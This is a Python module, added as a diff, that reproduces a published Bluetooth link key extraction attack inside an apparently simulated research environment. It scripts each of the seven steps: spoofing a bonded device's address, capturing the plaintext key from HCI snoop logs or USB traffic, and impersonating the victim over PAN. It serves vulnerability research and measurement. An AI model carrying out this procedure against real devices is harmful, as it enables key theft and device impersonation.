@@ -1,0 +1,197 @@
+"""The link key extraction attack (paper §IV, Fig. 5).
+
+Seven steps, exactly as published:
+
+1. A accesses C and arranges HCI data recording — the Android snoop
+   log, or a USB analyzer on PC systems.
+2. A changes its BD_ADDR to impersonate M.
+3. C establishes a connection and initiates LMP authentication with
+   "M" (actually A); C's controller requests the bonded key from its
+   host.
+4. C's host answers with the plaintext key — which the HCI recording
+   captures.
+5. A (whose patched host ignores the link key request) lets the link
+   die by LMP response timeout — no authentication failure, so C keeps
+   its stored key.
+6. A extracts the recording (Android bug report / USB stream) and
+   scans it for the key.
+7. A impersonates C toward M using the key; validation = a PAN
+   (tethering) connection that LMP-authenticates silently with no new
+   pairing.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import List, Optional
+
+from repro.core.errors import AttackError
+from repro.core.types import LinkKey
+from repro.attacks.attacker import Attacker
+from repro.attacks.scenario import World
+from repro.devices.device import Device
+from repro.snoop.extractor import LinkKeyFinding, extract_link_keys
+from repro.snoop.usb_extract import extract_link_keys_from_usb
+
+
+@dataclass
+class ExtractionReport:
+    """Outcome of one end-to-end link key extraction run."""
+
+    c_device: str
+    c_os: str
+    c_stack: str
+    extraction_channel: str  # "hci_dump" | "usb_sniff"
+    su_required: bool
+    extracted_key: Optional[LinkKey] = None
+    ground_truth_key: Optional[LinkKey] = None
+    key_survived_on_c: bool = False
+    validated_against_m: Optional[bool] = None
+    findings: List[LinkKeyFinding] = field(default_factory=list)
+    notes: List[str] = field(default_factory=list)
+
+    @property
+    def extraction_success(self) -> bool:
+        return (
+            self.extracted_key is not None
+            and self.extracted_key == self.ground_truth_key
+        )
+
+    @property
+    def vulnerable(self) -> bool:
+        """The Table I verdict for this device."""
+        return self.extraction_success and self.key_survived_on_c
+
+
+class LinkKeyExtractionAttack:
+    """Drives the full Fig. 5 procedure in a world where C↔M are bonded."""
+
+    #: how long to let the stalled authentication play out
+    AUTH_TIMEOUT_WAIT = 12.0
+
+    def __init__(
+        self, world: World, attacker_device: Device, c: Device, m: Device
+    ) -> None:
+        self.world = world
+        self.attacker = Attacker(attacker_device)
+        self.c = c
+        self.m = m
+
+    # ------------------------------------------------------------- plumbing
+
+    def _channel_for_c(self) -> str:
+        profile = self.c.spec.stack_profile
+        if profile.hci_snoop_supported:
+            return "hci_dump"
+        if self.c.spec.transport_kind == "usb":
+            return "usb_sniff"
+        raise AttackError(
+            f"{self.c.name}: no HCI dump and no sniffable transport"
+        )
+
+    def _su_required(self, channel: str) -> bool:
+        profile = self.c.spec.stack_profile
+        if channel == "hci_dump":
+            # Android's bug report sidesteps the protected log path;
+            # BlueZ's hcidump genuinely needs root.
+            return not profile.snoop_extractable_without_su
+        # USB analyzers run unprivileged on Windows, need root on Linux.
+        return self.c.spec.os.startswith("Ubuntu")
+
+    # ------------------------------------------------------------------ run
+
+    def run(self, validate: bool = True) -> ExtractionReport:
+        """Execute steps 1–7 and report."""
+        world = self.world
+        ground_truth = self.c.bonded_key_for(self.m.bd_addr)
+        if ground_truth is None:
+            raise AttackError("precondition failed: C is not bonded with M")
+
+        channel = self._channel_for_c()
+        su_required = self._su_required(channel)
+        report = ExtractionReport(
+            c_device=self.c.spec.marketing_name,
+            c_os=self.c.spec.os,
+            c_stack=self.c.spec.stack_profile.name,
+            extraction_channel=channel,
+            su_required=su_required,
+            ground_truth_key=ground_truth,
+        )
+
+        # Step 1: start recording on C.
+        if channel == "hci_dump":
+            self.c.enable_hci_snoop(su=su_required)
+        else:
+            sniffer = self.c.attach_usb_sniffer(
+                su=self.c.spec.os.startswith("Ubuntu")
+            )
+
+        # Step 2: impersonate M (and make sure the real M is absent,
+        # so C's page reaches only the attacker).
+        self.attacker.patch_drop_link_key_requests()
+        self.attacker.spoof_device(self.m)
+        self.attacker.go_connectable()
+        world.set_in_range(self.c, self.m, False)
+        world.run_for(0.5)
+
+        # Step 3: with physical access, make C (re)connect to "M" —
+        # C is the authentication initiator, so its host serves the key.
+        reconnect = self.c.host.gap.pair(self.m.bd_addr)
+
+        # Steps 4–5: the key is logged; A's silence kills the link by
+        # timeout.
+        world.run_for(self.AUTH_TIMEOUT_WAIT)
+        if not reconnect.done:
+            report.notes.append("authentication never resolved")
+        report.key_survived_on_c = (
+            self.c.bonded_key_for(self.m.bd_addr) == ground_truth
+        )
+
+        # Step 6: extract.
+        if channel == "hci_dump":
+            if self.c.spec.stack_profile.snoop_extractable_without_su:
+                capture = self.c.pull_bugreport()
+            else:
+                capture = self.c.read_snoop_log(su=True)
+            report.findings = extract_link_keys(capture)
+        else:
+            report.findings = extract_link_keys_from_usb(sniffer)
+        for finding in report.findings:
+            if finding.peer == self.m.bd_addr:
+                report.extracted_key = finding.link_key
+        if report.extracted_key is None:
+            report.notes.append("no key found for M in the capture")
+            return report
+
+        # Step 7: impersonate C toward M and validate over PAN.
+        if validate:
+            report.validated_against_m = self._validate(report.extracted_key)
+        return report
+
+    def _validate(self, key: LinkKey) -> bool:
+        """Paper §VI-B1 validation: fake bonding + Bluetooth tethering.
+
+        Success iff the PAN connection LMP-authenticates with the
+        extracted key and comes up without a new pairing procedure.
+        """
+        world = self.world
+        # The attacker walks back into M's range; the real C leaves it
+        # (or is powered down) so the spoofed address is unambiguous.
+        world.set_in_range(self.attacker.device, self.m, True)
+        world.set_in_range(self.c, self.m, False)
+        self.attacker.patch_drop_link_key_requests(False)
+        self.attacker.spoof_identity(
+            self.c.bd_addr,
+            class_of_device=self.c.controller.class_of_device,
+            name=self.c.controller.local_name,
+        )
+        self.attacker.install_fake_bonding(
+            self.m.bd_addr, key, name=self.m.controller.local_name
+        )
+        self.c.host.gap.set_scan_mode(connectable=False, discoverable=False)
+        world.run_for(0.5)
+        pairings_before = self.m.user.popups_seen
+        pan_op = self.attacker.device.host.pan.connect(self.m.bd_addr)
+        world.run_for(15.0)
+        no_new_pairing = self.m.user.popups_seen == pairings_before
+        return bool(pan_op.success and no_new_pairing)
